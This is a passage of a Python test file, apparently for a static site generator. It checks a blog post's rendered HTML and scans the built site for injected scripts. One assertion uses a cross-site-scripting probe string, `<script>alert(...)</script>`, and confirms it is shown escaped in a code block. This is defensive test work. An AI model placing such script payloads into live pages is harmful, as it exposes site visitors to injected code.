    page = next((tmp_path / "site" / "blog" / "2023" / "07").glob("*/index.html"))
    root = lxml_html.parse(str(page)).getroot()
    article = root.xpath("//article")[0]
    hrefs = [a.get("href") for a in article.xpath(".//a")]
    assert "mailto:catalyst@example.org" in hrefs and "tel:+15555550100" in hrefs
    assert "https://example.org/a_(b)?c=1&d=2" in hrefs and "../../../../" in hrefs
    assert article.xpath(".//h2[@id='own-id'][contains(@class, 'wide')]")
    assert article.xpath(".//th[@style]")[1].get("style").replace(" ", "") == "text-align:center;"
    assert article.xpath(".//figure[@class='pull-quote']/figcaption/cite")
    assert article.xpath(".//details/summary") and article.xpath(".//abbr[@title]")
    assert article.xpath(".//img[@alt='The logo'][@width='120'][@height='40']")
    assert article.xpath(".//div[@class='footnote']//li[starts-with(@id, 'fn:')]")
    code = " ".join(article.xpath(".//pre//code")[0].text_content().split())
    assert code == '<script>alert("this is an example in a code block")</script>'
    assert article.xpath(".//kbd") and article.xpath(".//sub") and article.xpath(".//sup")
    description = root.xpath("//meta[@name='description']")[0].get("content")
    assert description == "Teams & trust: what's \"learner-centered\"? A 1st look <3"
    assert unsafe(page, tmp_path / "site", set(_theme_of(tmp_path / "site"))) == []


def _theme_of(site: Path) -> set[str]:
    found = set()
    for page in site.rglob("*.html"):
        root = lxml_html.parse(str(page)).getroot()
        found |= {normalised_script(s.text) for s in root.iter("script") if s.get("src") is None}
        found |= {theme_form(form) for form in root.iter("form")}
        found |= {f"id {el.tag} {el.get('id')}" for el in root.xpath("//*[starts-with(@id,'__')]")}
    return found
